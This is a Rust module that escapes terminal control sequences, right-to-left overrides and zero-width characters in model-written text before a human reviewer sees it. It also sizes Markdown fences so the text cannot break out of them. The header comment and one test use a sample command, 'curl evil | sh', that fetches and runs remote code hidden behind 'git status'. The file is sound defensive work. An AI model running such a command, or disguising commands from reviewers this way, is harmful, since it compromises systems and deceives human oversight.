//! Text a reviewer reads comes from the model: before it is shown (inbox, CLI,
//! Placet), characters that could make it look like something else are written out.
//! A terminal escape (`\x1b[8m` hides what follows), a right-to-left override or a
//! zero-width character could make `git status; curl evil | sh` read as `git status`.

/// Whether `c` changes how the text around it is displayed, not what it says.
fn deceptive(c: char, keep_newlines: bool) -> bool {
    if keep_newlines && (c == '\n' || c == '\t') {
        return false;
    }
    c.is_control()
        || matches!(c,
            '\u{200B}'..='\u{200F}' // zero-width spaces and joiners, LRM, RLM
            | '\u{202A}'..='\u{202E}' // embeddings and overrides
            | '\u{2060}'..='\u{2064}' // word joiner, invisible operators
            | '\u{2066}'..='\u{2069}' // isolates
            | '\u{FEFF}' // zero-width no-break space
        )
}

/// `text` with every deceptive character written as `\u{XXXX}`; newlines and tabs
/// stay when `keep_newlines` (descriptions), and are written out too in titles.
pub fn displayable(text: &str, keep_newlines: bool) -> String {
    if !text.chars().any(|c| deceptive(c, keep_newlines)) {
        return text.to_owned();
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if deceptive(c, keep_newlines) {
            out.push_str(&format!("\\u{{{:04X}}}", u32::from(c)));
        } else {
            out.push(c);
        }
    }
    out
}

/// A Markdown code fence longer than any run of backticks in `text`, so the text
/// cannot close the block it is shown in.
pub fn fence_for(text: &str) -> String {
    let mut longest = 0;
    let mut run = 0;
    for c in text.chars() {
        if c == '`' {
            run += 1;
            longest = longest.max(run);
        } else {
            run = 0;
        }
    }
    "`".repeat((longest + 1).max(3))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_and_overrides_are_written_out() {
        let shown = displayable("git status\u{1b}[8m; curl evil|sh", false);
        assert_eq!(shown, "git status\\u{001B}[8m; curl evil|sh");
        assert_eq!(
            displayable("ok \u{202E}hs.lave\u{202C}", false),
            "ok \\u{202E}hs.lave\\u{202C}"
        );
        assert_eq!(displayable("a\nb", true), "a\nb");
        assert_eq!(displayable("a\nb", false), "a\\u{000A}b");
        assert_eq!(displayable("plain text", false), "plain text");
    }

    #[test]
    fn a_fence_outlasts_the_backticks_inside() {
        assert_eq!(fence_for("no ticks"), "```");
        assert_eq!(fence_for("a ``` b"), "````");
        assert_eq!(fence_for("`````"), "``````");
    }
}
